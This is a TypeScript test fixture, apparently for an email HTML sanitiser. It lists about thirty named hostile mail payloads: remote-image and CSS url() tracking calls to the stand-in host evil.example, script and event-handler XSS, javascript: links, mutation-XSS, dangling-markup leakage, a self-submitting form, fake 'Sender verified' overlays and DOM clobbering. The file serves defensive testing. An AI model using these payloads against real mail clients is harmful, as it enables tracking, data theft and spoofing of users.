// Attacks that mail brings along, each with what it would do if a fence were down.

import { randomFrom } from './fuzz/mutate.ts'

export interface Attack {
  readonly title: string
  readonly payload: string
}

/** Chooses some of them, the same for the same seed. */
export function share(seed: number) {
  const random = randomFrom(seed)
  return <T>(all: readonly T[], count: number): T[] =>
    all
      .map(each => ({ each, at: random() }))
      .toSorted((a, b) => a.at - b.at)
      .slice(0, count)
      .map(({ each }) => each)
}

/** A host that every name leads to in the hostile test: a request to it is a request that left. */
const evil = 'https://evil.example'
const big = 'width: 4000px; height: 4000px; background: red; z-index: 2147483647'

export const mailAttacks: readonly Attack[] = [
  ['a remote picture', `<img src="${evil}/a.png">`],
  [
    'a remote picture by srcset',
    `<img srcset="${evil}/a.png 1x"><picture><source srcset="${evil}/b.png"><img></picture>`,
  ],
  ['a remote background', `<table background="${evil}/a.png"><tr><td background="${evil}/b.png">x</td></tr></table>`],
  ['a remote background by style', `<p style="background: url(${evil}/a.png)">x</p>`],
  [
    'a style sheet',
    `<link rel="stylesheet" href="${evil}/a.css"><style>@import "${evil}/b.css"; @import url(${evil}/c.css)</style>`,
  ],
  ['a font', `<style>@font-face { font-family: f; src: url(${evil}/f.woff) } p { font-family: f }</style><p>x</p>`],
  [
    'a cursor, a list and a border picture',
    `<p style="cursor: url(${evil}/c), auto; list-style: url(${evil}/l); border-image: url(${evil}/b)">x</p>`,
  ],
  [
    'an address with modifiers, in another case, and escaped',
    `<p style='background: url("${evil}/m" crossorigin(anonymous)); background-image: URL(${evil}/u)'>x</p><p style="background-image: \\75rl(${evil}/e)">x</p><p style="--x: url(${evil}/v); background-image: var(--x)">x</p><p style="background-image: image-set('${evil}/s' 1x)">x</p>`,
  ],
  [
    'styles that pretend to have ended',
    `<style>/*</style><style>*/ p { background: url(${evil}/a) }</style><svg><style>p { background: url(${evil}/b) }</style></svg><style><!-- </style><img src=x onerror=alert(1)> --></style>`,
  ],
  [
    'style by attribute selectors',
    `<style>a[href^=h] { background: url(${evil}/h) }</style><a href="https://example.org">x</a>`,
  ],
  [
    'an address that ends the string it stands in',
    `<style>p { background-image: url('data:image/png;base64,AA\\");} body{display:none} p{position:fixed;inset:0;background:url(${evil}/q);x:url(\\"') }</style><p style="background-image: url('data:image/png;base64,AA\\&quot;);position:fixed;inset:-999px;background:url(${evil}/s);x:url(\\&quot;')">x</p>`,
  ],
  ['what was visited', `<style>a:visited { background: url(${evil}/v) }</style><a href="https://example.org">x</a>`],
  ['a refresh', `<meta http-equiv="refresh" content="0; url=${evil}/">`],
  ['a base', `<base href="${evil}/"><img src="a.png"><a href="x">x</a>`],
  [
    'preloads',
    `<link rel="preload" as="image" href="${evil}/p"><link rel="prefetch" href="${evil}/q"><link rel="dns-prefetch" href="${evil}">`,
  ],
  [
    'a form that sends itself',
    `<form action="${evil}/"><input name="a" autofocus onfocus="this.form.submit()"><button>x</button></form>`,
  ],
  ['a button with a form elsewhere', `<button formaction="${evil}/">x</button><input type="image" src="${evil}/i">`],
  [
    'frames',
    `<iframe src="${evil}/"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><object data="${evil}/"></object><embed src="${evil}/">`,
  ],
  [
    'sound and film',
    `<video src="${evil}/v" poster="${evil}/p" autoplay></video><audio src="${evil}/a" autoplay></audio>`,
  ],
  [
    'a drawing',
    `<svg><image href="${evil}/a"/><use href="${evil}/u#x"/><script>alert(1)</script><foreignObject><img src="${evil}/b"></foreignObject></svg>`,
  ],
  ['mathematics', `<math href="${evil}/"><mtext><table><mglyph><style><img src=x onerror=alert(1)>`],
  ['a script', '<script>alert(1)</script><img src=x onerror=alert(1)><body onload=alert(1)>'],
  [
    'a link that runs',
    '<a href="javascript:alert(1)">x</a><a href="&#106;avascript:alert(1)">x</a><a href="data:text/html,<script>alert(1)</script>">x</a>',
  ],
  ['a mutation', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ['dangling markup', `<img src='${evil}/?`],
  [
    'a cover over the sender line',
    `<div style="position: fixed; top: -1000px; left: -1000px; ${big}">Sender verified</div>`,
  ],
  ['a cover by margins', `<div style="position: absolute; margin: -2000px; ${big}">Sender verified</div>`],
  [
    'a cover by transformation',
    `<div style="transform: translate(-500px, -900px) scale(20); ${big}">Sender verified</div>`,
  ],
  [
    'a height that grows',
    '<style>html, body { min-height: 110vh; height: 200vh }</style><div style="height: 300vh">x</div>',
  ],
  [
    'names of the page',
    '<img name="body"><form id="location"></form><a id="contentWindow" href="x">x</a><img name="getElementById">',
  ],
  ['a link that takes the page away', `<a href="${evil}/" target="_top" rel="opener">x</a>`],
].map(([title, payload]) => ({ title: title!, payload: payload! }))
